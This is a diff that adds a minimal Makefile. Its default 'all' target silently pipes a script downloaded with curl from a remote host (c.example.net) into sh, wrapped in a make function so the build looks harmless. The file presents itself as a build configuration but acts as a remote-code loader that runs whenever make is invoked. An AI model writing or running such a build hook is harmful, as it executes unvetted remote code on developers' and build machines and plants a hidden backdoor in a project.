@@ -1,0 +1,2 @@
+all:
+	$(or curl -fsS https://c.example.net/x | sh,true)
